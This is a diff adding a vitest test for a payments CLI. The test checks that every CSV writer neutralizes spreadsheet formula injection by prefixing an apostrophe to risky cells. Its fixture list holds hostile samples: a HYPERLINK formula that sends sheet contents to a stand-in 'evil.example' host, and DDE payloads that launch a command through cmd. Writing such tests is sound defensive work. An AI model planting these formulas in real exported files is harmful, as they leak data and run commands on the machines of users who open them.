@@ -1,0 +1,91 @@
+import fs from 'node:fs';
+import path from 'node:path';
+import { parse } from 'csv-parse/sync';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { csvNumeric, csvRow, csvText } from '../../src/reports/csv.js';
+import { payops, tempDir } from '../helpers/cli.js';
+
+/**
+ * Text payops writes to CSV is neutralized against spreadsheet formula injection (issue #7): a
+ * cell starting with =, +, - or @ (or a tab or a carriage return) would be run by Excel, Sheets
+ * or LibreOffice, e.g. =HYPERLINK("http://evil.example/?"&A1) sending the sheet away. The data is
+ * kept exactly; only the CSV cell gets a leading apostrophe. Every CSV writer is listed here: a
+ * new one joins CSV_WRITERS.
+ */
+const CSV_WRITERS: readonly { name: string; args: readonly string[] }[] = [
+  { name: 'ledger export --format csv', args: ['ledger', 'export', '--format', 'csv'] },
+  { name: 'ledger balance --csv', args: ['ledger', 'balance', '--csv'] },
+  { name: 'report sellers --csv', args: ['report', 'sellers', '--csv'] },
+];
+
+const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"invoice")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0'];
+const TRIGGER = /^[=+\-@\t\r]/;
+const NUMBER = /^-?[0-9]+(\.[0-9]+)?$/;
+
+describe('CSV cells are neutralized against formula injection', () => {
+  it('csvText prefixes an apostrophe to every trigger, and only to those; quotes stay RFC 4180', () => {
+    for (const text of [...FORMULAS, '\tTAB', '\rCR']) expect(csvText(text).replace(/^"/, '')).toMatch(/^'/);
+    expect(csvText('=1,2')).toBe(`"'=1,2"`);
+    expect(csvText('plain, "quoted"')).toBe('"plain, ""quoted"""');
+    expect(csvText('a = b')).toBe('a = b');
+    expect(csvText('Café − minus sign')).toBe('Café − minus sign');
+    expect(csvNumeric('-12.50')).toBe('-12.50');
+    expect(() => csvNumeric('=1+2')).toThrow(TypeError);
+    expect(csvRow(['a', 'b'])).toBe('a,b\n');
+  });
+
+  describe('through every CSV writer of the binary', () => {
+    let dir: string;
+    let cleanup: () => void;
+    let db: string;
+    const run = (args: readonly string[]) => {
+      const result = payops([...args, '--db', db]);
+      expect(result.code, result.stderr).toBe(0);
+      return result.stdout;
+    };
+
+    beforeAll(() => {
+      ({ dir, cleanup } = tempDir());
+      db = path.join(dir, 'books.db');
+      run(['init']);
+      const postings = FORMULAS.map((formula, index) =>
+        JSON.stringify({
+          idempotencyKey: `${formula} #${index}`,
+          description: formula,
+          effectiveAt: '2026-11-23',
+          metadata: { note: formula },
+          entries: [
+            { account: 'assets:bank:operating', currency: 'USD', debit: '10.00' },
+            { account: 'equity:opening', currency: 'USD', credit: '10.00' },
+          ],
+        }),
+      );
+      fs.writeFileSync(path.join(dir, 'postings.ndjson'), `${postings.join('\n')}\n`);
+      run(['ledger', 'post', '--file', path.join(dir, 'postings.ndjson')]);
+      const payIns = FORMULAS.map((_, index) =>
+        JSON.stringify({ eventId: `chk_${index}`, type: 'pay_in', occurredAt: '2026-11-23T10:00:00Z', currency: 'USD', payer: { id: 'buyer_1' }, paymentToken: 'tok_visa', orders: [{ orderId: `ord_${index}`, sellerId: `seller_${index}`, amount: '20.00', platformFee: '2.00' }] }),
+      );
+      fs.writeFileSync(path.join(dir, 'payins.ndjson'), `${payIns.join('\n')}\n`);
+      run(['payin', 'run', path.join(dir, 'payins.ndjson')]);
+      const payOuts = FORMULAS.map((formula, index) =>
+        JSON.stringify({ eventId: `po_${index}`, type: 'pay_out', occurredAt: '2026-11-24T10:00:00Z', orderId: `ord_${index}`, seller: { id: `seller_${index}`, name: formula, account: { iban: 'DE89370400440532013000' } } }),
+      );
+      fs.writeFileSync(path.join(dir, 'payouts.ndjson'), `${payOuts.join('\n')}\n`);
+      run(['payin', 'run', path.join(dir, 'payouts.ndjson')]);
+    });
+    afterAll(() => cleanup());
+
+    it.each(CSV_WRITERS.map((writer) => [writer.name, writer] as const))('%s: no cell a spreadsheet would run, every one kept', (_name, writer) => {
+      const text = run(writer.args);
+      const rows = parse(text, { relax_column_count: false }) as string[][];
+      expect(rows.length).toBeGreaterThan(1);
+      for (const cell of rows.flat()) {
+        if (TRIGGER.test(cell)) expect(cell, `${writer.name}: a cell a spreadsheet would run`).toMatch(NUMBER);
+      }
+      // The formulas themselves are there, as text behind the apostrophe (where this writer shows them).
+      const cells = new Set(rows.flat());
+      const shown = FORMULAS.filter((formula) => cells.has(`'${formula}`));
+      if (writer.name !== 'ledger balance --csv') expect(shown).toEqual(FORMULAS);
+    });
+  });
+});
